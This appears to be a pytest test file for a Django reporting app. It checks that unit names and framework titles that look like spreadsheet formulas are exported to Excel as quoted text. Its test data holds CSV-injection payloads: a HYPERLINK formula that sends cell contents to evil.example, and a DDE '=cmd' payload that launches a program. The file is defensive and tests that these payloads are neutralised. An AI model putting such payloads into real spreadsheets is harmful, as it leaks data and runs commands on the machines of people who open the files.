"""A unit named like a formula stays text in every spreadsheet parindex writes: the
published tables, the survey import's template and a framework's Excel file open again
with the text as written, stored as text with Excel's quote prefix, and numbers as numbers."""

from __future__ import annotations

import csv
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from parindex.conftest import DEMO_FRAMEWORKS, HISTORY, Cast
from parindex.frameworks.excelio import tree_from_xlsx, tree_to_xlsx
from parindex.frameworks.yamlio import tree_from_yaml
from parindex.org.models import Unit
from parindex.org.spreadsheets import neutralise

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(cells: list, value: str) -> None:  # type: ignore[type-arg]
    found = [cell for cell in cells if cell.value == value]
    assert found, f"{value!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix


def test_text_starting_like_a_formula_is_kept_as_text_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    texts = ["=1+2", "+84 912", "-giảm", "@SUM(A1)", "\t=1", "\r=1"]
    for row, value in enumerate([*texts, "Sở Tư pháp", -5, Decimal("-1.25")], start=1):
        neutralise(sheet.cell(row=row, column=1, value=value))
    buffer = BytesIO()
    book.save(buffer)
    cells = _cells(buffer.getvalue())
    # openpyxl writes through lxml (python-docx's dependency), which escapes a carriage
    # return as &#13;: every text reads back exactly as written, still text.
    assert [cell.value for cell in cells[: len(texts)]] == texts
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells[: len(texts)])
    plain, minus_five, minus_decimal = cells[len(texts) :]
    assert plain.value == "Sở Tư pháp" and not plain.quotePrefix
    assert minus_five.value == -5 and minus_five.data_type == "n"
    assert minus_decimal.value == -1.25 and minus_decimal.data_type == "n"


def test_the_published_tables_keep_a_formula_like_unit_name_as_text(
    cast: Cast, tmp_path: Path
) -> None:
    rows = list(csv.reader(HISTORY.open(encoding="utf-8")))
    rows[1][1] = HOSTILE
    hostile_csv = tmp_path / "results.csv"
    with hostile_csv.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    call_command("import_results", str(hostile_csv), year=2023, verbosity=0)
    client = cast.client(cast.admin)
    for url in ("/results/2023/results.xlsx", "/results/2023/fields.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        _assert_text(cells, HOSTILE)
        assert not any(cell.data_type == "f" for cell in cells), url
        assert any(isinstance(cell.value, float) for cell in cells), "figures stay numbers"


def test_the_survey_template_keeps_a_formula_like_unit_name_as_text(
    cast: Cast, cycle_2024: object
) -> None:
    Unit.objects.filter(pk=cast.district.pk).update(name="+84 " + HOSTILE)
    response = cast.client(cast.admin).get("/results/2024/surveys/khao-sat.xlsx")
    assert response.status_code == 200
    _assert_text(_cells(response.content), "+84 " + HOSTILE)


def test_a_frameworks_formula_like_title_reads_back_as_written() -> None:
    text = (DEMO_FRAMEWORKS / "huyen-2023.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "title: Kế hoạch cải cách hành chính năm", "title: '=cmd|'' /C calc''!A0'", 1
    )
    tree = tree_from_yaml(text.encode())
    content = tree_to_xlsx(tree)
    _assert_text(_cells(content), "=cmd|' /C calc'!A0")
    assert tree_from_xlsx(content) == tree
